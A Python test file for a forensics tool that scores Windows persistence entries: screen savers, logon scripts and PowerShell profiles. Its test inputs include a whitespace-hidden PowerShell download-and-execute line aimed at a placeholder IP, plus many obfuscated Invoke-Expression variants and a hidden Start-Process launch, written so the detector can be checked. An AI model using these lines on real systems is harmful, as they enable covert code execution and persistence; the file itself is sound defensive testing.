"""Screen savers, logon scripts and PowerShell profiles."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from forensics.artifacts import logon_scripts, powershell_profiles, screen_saver
from forensics.artifacts.base import RegistryArtifact
from forensics.formats.hive import Hive
from forensics.formats.hive_deleted import layers, recover
from forensics.formats.powershelltext import code
from forensics.rules import load
from testdata.writers.hive import REG_SZ, HiveWriter
from tests.artifacts.autostarts import entries, scores
from tests.artifacts.file_inputs import MODIFIED, survives_truncation
from tests.artifacts.file_inputs import run as run_file
from tests.artifacts.registry_inputs import NTUSER, SID, merged, nested, run
from tests.formats.crafted_hives import Tree, utf16

MADE = {MODIFIED: datetime(2024, 12, 2, 3, 4, 5, tzinfo=UTC)}
POLICY = "Microsoft\\Windows\\CurrentVersion\\Group Policy"
GROUP = "C:/Windows/System32/GroupPolicy/Machine/Scripts"


def desktop(program: str) -> Tree:
    values = {"": [("SCRNSAVE.EXE", 1, utf16(program)), ("ScreenSaveActive", 1, utf16("1"))]}
    return merged({"Environment": {}, "Software": {}}, nested("Control Panel\\Desktop", values))


@pytest.mark.parametrize(
    ("program", "least", "most"),
    [
        ("C:\\Users\\田中\\AppData\\Roaming\\upd.exe", 41, 100),
        ("\\\\192.0.2.7\\share\\a.scr", 41, 100),
        ("C:\\Windows\\system32\\Bubbles.scr", 0, 0),
        ("%SystemRoot%\\system32\\scrnsave.scr", 0, 0),
        ("C:\\Windows\\system32\\vendor.scr", 0, 0),
    ],
)
def test_a_screen_saver(program: str, least: int, most: int) -> None:
    facts, problems = run(screen_saver.ARTIFACT, desktop(program), NTUSER)
    assert problems == []
    assert [(fact.fields["command_line"], fact.fields["enabled"]) for fact in facts] == [(program, True)]
    assert least <= scores(facts)["SCRNSAVE.EXE"] <= most


def test_removed_values_are_told_as_such() -> None:
    made = MADE[MODIFIED]
    writer = HiveWriter("ROOT", made)
    for key in ("Software", "Environment", "Control Panel\\Desktop"):
        writer.key(key, made)
        writer.value(key, "Other", REG_SZ, "stays")
    writer.value("Control Panel\\Desktop", "SCRNSAVE.EXE", REG_SZ, "C:\\ProgramData\\upd.exe", deleted=True)
    writer.value("Environment", "UserInitMprLogonScript", REG_SZ, "C:\\ProgramData\\a.bat", deleted=True)
    stored = writer.build()
    opened = Hive.open(stored)
    facts = [
        fact
        for layer in layers(recover(opened, stored), opened)
        for artifact in (screen_saver.ARTIFACT, logon_scripts.ARTIFACT)
        for fact in run(artifact, layer, NTUSER)[0]
    ]
    assert {fact.fields["command_line"] for fact in facts} == {"C:\\ProgramData\\upd.exe", "C:\\ProgramData\\a.bat"}
    assert all("(deleted" in fact.source.locator for fact in facts)


def test_no_screen_saver_is_no_entry() -> None:
    assert run(screen_saver.ARTIFACT, desktop(""), NTUSER) == ([], [])
    assert run(screen_saver.ARTIFACT, desktop("(None)"), NTUSER) == ([], [])


def policy(event: str, place: str, script: str, parameters: str = "") -> Tree:
    values = [("Script", 1, utf16(script)), ("Parameters", 1, utf16(parameters))]
    tree = nested(f"{POLICY}\\Scripts\\{event}\\0\\0", {"": values})
    head = {"": [("FileSysPath", 1, utf16(place)), ("DisplayName", 1, utf16("Office"))]}
    return merged(tree, nested(f"{POLICY}\\Scripts\\{event}\\0", head))


def test_scripts_of_the_registry() -> None:
    machine = merged(
        {"Classes": {}},
        policy("Startup", "C:\\WINDOWS\\System32\\GroupPolicy\\Machine", "run me.ps1", "-x 1"),
        policy("Shutdown", "\\\\corp.example\\sysvol\\corp.example\\Policies\\{1}\\Machine", "clean.bat"),
    )
    facts, problems = run(logon_scripts.ARTIFACT, machine, "C:/Windows/System32/config/SOFTWARE")
    assert problems == []
    assert {fact.fields["entry_name"]: fact.fields["command_line"] for fact in facts} == {
        "Startup 0\\0": '"run me.ps1" -x 1',
        "Shutdown 0\\0": "clean.bat",
    }
    assert scores(facts) == {"Startup 0\\0": 45, "Shutdown 0\\0": 0}


def test_a_script_of_the_user() -> None:
    environment = {"": [("UserInitMprLogonScript", 1, utf16("C:\\ProgramData\\a.bat")), ("TEMP", 1, utf16("x"))]}
    facts, _ = run(logon_scripts.ARTIFACT, {"Environment": environment, "Software": {}}, NTUSER)
    assert [(fact.fields["command_line"], fact.fields["user_sid"]) for fact in facts] == [
        ("C:\\ProgramData\\a.bat", SID)
    ]
    assert scores(facts)["UserInitMprLogonScript"] > 40
    assert "T1037.001" in entries(facts)["UserInitMprLogonScript"].attack


INI = (
    "\r\n[Startup]\r\n0CmdLine=C:\\ProgramData\\a.cmd\r\n0Parameters=/q\r\n1CmdLine=b.vbs\r\n1Parameters=\r\n"
    "[Other]\r\n0CmdLine=no\r\n"
)


@pytest.mark.parametrize("data", [INI.encode("utf-16"), INI.encode()])
def test_scripts_of_the_local_policys_files(data: bytes) -> None:
    facts, problems = run_file(logon_scripts.FILES, f"{GROUP}/scripts.ini", data, MADE)
    assert problems == []
    assert [(fact.fields["entry_name"], fact.fields["command_line"]) for fact in facts] == [
        ("Startup 0", "C:\\ProgramData\\a.cmd /q"), ("Startup 1", "b.vbs"),
    ]  # fmt: skip
    assert facts[0].source.locator == "line 3"
    assert min(scores(facts).values()) > 40


def test_a_copy_of_the_domains_policy_is_quiet() -> None:
    path = "C:/Windows/System32/GroupPolicy/DataStore/0/sysvol/corp.example/Policies/{1}/Machine/Scripts/scripts.ini"
    facts, _ = run_file(logon_scripts.FILES, path, "[Startup]\r\n0CmdLine=drives.vbs\r\n", MADE)
    assert facts[0].fields["reason"] == "Startup script of the domain's policy"
    assert scores(facts) == {"Startup 0": 0}


def test_scripts_beyond_the_most_are_a_problem() -> None:
    text = "[Startup]\r\n" + "".join(f"{number}CmdLine=a{number}.cmd\r\n" for number in range(1500))
    facts, problems = run_file(logon_scripts.FILES, f"{GROUP}/scripts.ini", text + "3Parameters=/q\r\n", MADE)
    assert len(facts) == 1000
    assert facts[3].fields["command_line"] == "a3.cmd /q"
    assert [(problem.fault, problem.detail[:3]) for problem in problems] == [("partial", "500")]


def test_a_file_without_scripts() -> None:
    assert run_file(logon_scripts.FILES, f"{GROUP}/scripts.ini", "\r\n".encode("utf-16"), MADE) == ([], [])
    assert len(run_file(logon_scripts.FILES, f"{GROUP}/scripts.ini", b"\x01\x02nonsense", MADE)[1]) == 1


HARMLESS = b'# mine\r\nSet-Alias ll Get-ChildItem\r\nfunction prompt { "$pwd> " }\r\nImport-Module posh-git\r\n'
PLANTED = HARMLESS + "# 更新\r\nStart-Process -WindowStyle Hidden C:\\ProgramData\\更新.exe\r\n".encode()


def test_profiles() -> None:
    home = "C:/Users/hanako/Documents/WindowsPowerShell"
    facts = []
    for path, data in (
        (f"{home}/Microsoft.PowerShell_profile.ps1", PLANTED), (f"{home}/Microsoft.VSCode_profile.ps1", HARMLESS),
        ("C:/Windows/System32/WindowsPowerShell/v1.0/profile.ps1", HARMLESS),
    ):  # fmt: skip
        found, problems = run_file(powershell_profiles.ARTIFACT, path, data, MADE)
        assert problems == []
        facts += found
    assert facts[0].fields["command_line"] == "Start-Process -WindowStyle Hidden C:\\ProgramData\\更新.exe"
    assert "1 stand out (line 6)" in str(facts[0].fields["reason"])
    assert facts[0].fields["file_sha256"] == "0" * 64
    found_scores = scores(facts)
    assert found_scores["Microsoft.PowerShell_profile.ps1"] > 40
    assert found_scores["Microsoft.VSCode_profile.ps1"] == 0
    assert 0 < found_scores["profile.ps1"] <= 20


HIDDEN = [
    "$a=1;" + " " * 5000 + "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
    "<# mine #> IEX $x", "<#\n#> IEX $x", "#\rIEX $x", "i`ex $x", "& ('i'+'ex') $x", "&(\"{1}{0}\" -f 'x','ie') $y",
    "I`E`X $x", "@'\nit's <#\n'@\nIEX $x\n@'\n#>\n'@",
    "$a = \u2019 <# \u2019; IEX $x; $b = \u2019 #> \u2019", '"$("x # ")"; IEX $x', "x " * 9000 + ";IEX $x",
    "C:\\Users\\hanako\\odd.exe", '&"$env:APPDATA\\odd.exe" -k', "saps odd", ". ([scriptblock]::Create($x))",
    "[Activator]::CreateInstance([type]::GetTypeFromCLSID($x))", "IEX `\n $x",
]  # fmt: skip


@pytest.mark.parametrize("line", HIDDEN)
def test_what_a_profile_hides(line: str) -> None:
    path = "C:/Users/hanako/Documents/PowerShell/profile.ps1"
    (fact,), problems = run_file(powershell_profiles.ARTIFACT, path, HARMLESS + line.encode() + b"\n", MADE)
    assert problems == []
    assert "stand out" in str(fact.fields["reason"])
    assert len(str(fact.fields["command_line"])) < 700
    assert next(iter(scores([fact]).values())) > 40


@pytest.mark.parametrize(
    "line",
    [
        "# IEX $x", "<# IEX $x #>", "<#\nIEX $x\n#>\nSet-Alias a b", "Set-Alias a b # IEX $x",
        "$a = 'C:\\Users\\a\\b.exe'",
        "& (Get-Command git) status", "& \"$env:LOCALAPPDATA\\Programs\\tool\\tool.exe\" init",
        "function g { & git $args }", "$env:PATH += ';C:\\Users\\a\\bin'",
    ],
)  # fmt: skip
def test_what_profiles_usually_have_is_quiet(line: str) -> None:
    path = "C:/Users/hanako/Documents/PowerShell/profile.ps1"
    (fact,), _ = run_file(powershell_profiles.ARTIFACT, path, HARMLESS + line.encode() + b"\n", MADE)
    assert "stand out" not in str(fact.fields["reason"])
    assert next(iter(scores([fact]).values())) <= 20


def test_files_that_a_profile_reads_in_are_named() -> None:
    path = "C:/Users/hanako/Documents/PowerShell/profile.ps1"
    (fact,), _ = run_file(powershell_profiles.ARTIFACT, path, b". C:\\Users\\hanako\\x.ps1\n", MADE)
    assert fact.fields["command_line"] == ". C:\\Users\\hanako\\x.ps1"
    assert "1 start other files (line 1)" in str(fact.fields["reason"])
    assert 0 < scores([fact])["profile.ps1"] <= 40


@pytest.mark.parametrize("piece", ['"`"', "'#", "<#", "iex `\n", "&(", "C:\\users\\", '# $("'])
def test_hostile_profiles_end(piece: str) -> None:
    lines = list(code(piece * (200_000 // len(piece))))
    assert all(powershell_profiles.stands_out(line) in (True, False) for _, line in lines[:200])


def test_an_empty_profile_is_context() -> None:
    (fact,), _ = run_file(powershell_profiles.ARTIFACT, "C:/Users/a/Documents/PowerShell/profile.ps1", b"# x\n", MADE)
    assert fact.context


@pytest.mark.parametrize("item", load("powershell_profiles")["lines"], ids=lambda item: item["pattern"][:20])
def test_lines_that_stand_out(item: dict[str, str]) -> None:
    assert powershell_profiles.stands_out(item["example"])
    assert not powershell_profiles.stands_out(item["counterexample"])


@pytest.mark.parametrize("item", load("powershell_profiles")["starts"], ids=lambda item: item["pattern"][:20])
def test_lines_that_start_others(item: dict[str, str]) -> None:
    assert powershell_profiles.starts_others(item["example"])
    assert not powershell_profiles.starts_others(item["counterexample"])


def test_truncation() -> None:
    survives_truncation(powershell_profiles.ARTIFACT, "C:/Users/a/Documents/PowerShell/profile.ps1", PLANTED, step=5)
    for length in range(0, len(INI) * 2, 3):
        run_file(logon_scripts.FILES, f"{GROUP}/scripts.ini", INI.encode("utf-16")[:length], MADE)


@pytest.mark.samples
@pytest.mark.parametrize("artifact", [screen_saver.ARTIFACT, logon_scripts.ARTIFACT], ids=lambda item: item.name)
@pytest.mark.parametrize("name", ["NTUSER_with_winscp.DAT", "NTUSER-WSL.DAT"])
def test_real_users_are_quiet(samples: Path, artifact: RegistryArtifact, name: str) -> None:
    facts, problems = run(artifact, Hive.open((samples / "hives" / name).read_bytes()), "C:/Users/tony/NTUSER.DAT")
    assert problems == []
    assert max(scores(facts).values(), default=0) <= 20, scores(facts)
